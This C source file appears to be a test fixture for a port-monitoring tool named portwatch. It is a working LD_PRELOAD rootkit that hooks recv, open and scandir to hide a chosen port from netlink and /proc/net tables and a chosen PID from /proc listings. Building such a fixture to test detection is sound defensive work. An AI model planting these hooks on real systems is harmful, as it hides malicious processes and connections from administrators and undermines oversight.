/*
 * A user-space rootkit for the tests (test/collect/third-view.test.ts, hidden-processes.test.ts), loaded
 * into portwatch with LD_PRELOAD the way Jynx, Azazel or libprocesshider are: it hides, in the view of the
 * process it is loaded into only,
 *   - PW_SHIM_HIDE_PORT (a local port): from netlink sock_diag answers (recv: what ss reads) and from the
 *     /proc/<x>/net/{tcp,tcp6,udp,udp6} text (open: what netstat reads, served from a filtered memfd);
 *   - PW_SHIM_HIDE_PID: from the /proc listing (scandir, as Node's readdir calls it).
 * The fd tables (readlink of /proc/<pid>/fd/N) are left alone, as those rootkits leave them.
 * Built by the tests into a temporary folder (cc -shared -fPIC); never installed.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <fcntl.h>
#include <linux/inet_diag.h>
#include <linux/netlink.h>
#include <linux/sock_diag.h>
#include <netinet/in.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <unistd.h>

static int hide_port(void) {
  const char *v = getenv("PW_SHIM_HIDE_PORT");
  return v ? atoi(v) : -1;
}

ssize_t recv(int fd, void *buf, size_t len, int flags) {
  static ssize_t (*real)(int, void *, size_t, int);
  if (!real) real = (ssize_t (*)(int, void *, size_t, int))dlsym(RTLD_NEXT, "recv");
  ssize_t n = real(fd, buf, len, flags);
  int port = hide_port(), domain = 0, protocol = 0;
  socklen_t l = sizeof domain;
  if (n <= 0 || port < 0 || getsockopt(fd, SOL_SOCKET, SO_DOMAIN, &domain, &l) < 0 || domain != AF_NETLINK) return n;
  l = sizeof protocol;
  if (getsockopt(fd, SOL_SOCKET, SO_PROTOCOL, &protocol, &l) < 0 || protocol != NETLINK_SOCK_DIAG) return n;
  char *p = buf;
  size_t left = (size_t)n;
  while (left >= sizeof(struct nlmsghdr)) {
    struct nlmsghdr *h = (struct nlmsghdr *)p;
    size_t size = NLMSG_ALIGN(h->nlmsg_len);
    if (h->nlmsg_len < sizeof *h || size > left) break;
    int diag = (h->nlmsg_type == SOCK_DIAG_BY_FAMILY || h->nlmsg_type == TCPDIAG_GETSOCK) && h->nlmsg_len >= NLMSG_LENGTH(sizeof(struct inet_diag_msg));
    if (diag && ntohs(((struct inet_diag_msg *)NLMSG_DATA(h))->id.idiag_sport) == port) {
      memmove(p, p + size, left - size);
      left -= size;
      n -= (ssize_t)size;
      continue;
    }
    p += size;
    left -= size;
  }
  return n;
}

/* /proc/<x>/net/tcp and friends: the text without the lines whose local port is the hidden one. */
static int net_table(const char *path) {
  if (strncmp(path, "/proc/", 6) != 0) return 0;
  const char *t = strstr(path, "/net/");
  return t && (!strcmp(t, "/net/tcp") || !strcmp(t, "/net/tcp6") || !strcmp(t, "/net/udp") || !strcmp(t, "/net/udp6"));
}

static int filtered(int (*real_open)(const char *, int, ...), const char *path, int flags) {
  int fd = real_open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return fd;
  size_t cap = 1 << 16, len = 0;
  char *text = malloc(cap);
  for (ssize_t r; text && (r = read(fd, text + len, cap - len)) > 0;) {
    len += (size_t)r;
    if (len == cap) text = realloc(text, cap *= 2);
  }
  close(fd);
  if (!text) return -1;
  int out = memfd_create("net", (flags & O_CLOEXEC) ? MFD_CLOEXEC : 0);
  char want[8];
  snprintf(want, sizeof want, ":%04X ", hide_port());
  for (char *line = text, *end; line < text + len; line = end) {
    end = memchr(line, '\n', (size_t)(text + len - line));
    end = end ? end + 1 : text + len;
    /* the local address is the second field: "  0: 0100007F:1F90 ..." */
    char *colon = memchr(line, ':', (size_t)(end - line));
    char *local_end = colon ? memchr(colon + 2, ' ', (size_t)(end - colon - 2)) : NULL;
    if (local_end && local_end - 5 > line && memcmp(local_end - 5, want, 6) == 0) continue;
    if (write(out, line, (size_t)(end - line)) < 0) break;
  }
  free(text);
  lseek(out, 0, SEEK_SET);
  return out;
}

#define OPEN_HOOK(name)                                                                     \
  int name(const char *path, int flags, ...) {                                              \
    static int (*real)(const char *, int, ...);                                             \
    if (!real) real = (int (*)(const char *, int, ...))dlsym(RTLD_NEXT, #name);            \
    va_list ap;                                                                             \
    va_start(ap, flags);                                                                    \
    mode_t mode = (mode_t)va_arg(ap, int);                                                  \
    va_end(ap);                                                                             \
    if (hide_port() >= 0 && net_table(path)) return filtered(real, path, flags);            \
    return real(path, flags, mode);                                                         \
  }
OPEN_HOOK(open)
OPEN_HOOK(open64)

#define SCANDIR_HOOK(name, dirent_t)                                                                                    \
  int name(const char *dir, struct dirent_t ***list, int (*filter)(const struct dirent_t *),                           \
           int (*compar)(const struct dirent_t **, const struct dirent_t **)) {                                        \
    static int (*real)(const char *, struct dirent_t ***, int (*)(const struct dirent_t *),                            \
                       int (*)(const struct dirent_t **, const struct dirent_t **));                                   \
    if (!real) real = dlsym(RTLD_NEXT, #name);                                                                          \
    int n = real(dir, list, filter, compar);                                                                            \
    const char *pid = getenv("PW_SHIM_HIDE_PID");                                                                       \
    if (n <= 0 || !pid || (strcmp(dir, "/proc") && strcmp(dir, "/proc/"))) return n;                                   \
    int kept = 0;                                                                                                       \
    for (int i = 0; i < n; i++) {                                                                                       \
      if (strcmp((*list)[i]->d_name, pid) == 0) { free((*list)[i]); continue; }                                         \
      (*list)[kept++] = (*list)[i];                                                                                     \
    }                                                                                                                   \
    return kept;                                                                                                        \
  }
SCANDIR_HOOK(scandir, dirent)
SCANDIR_HOOK(scandir64, dirent64)
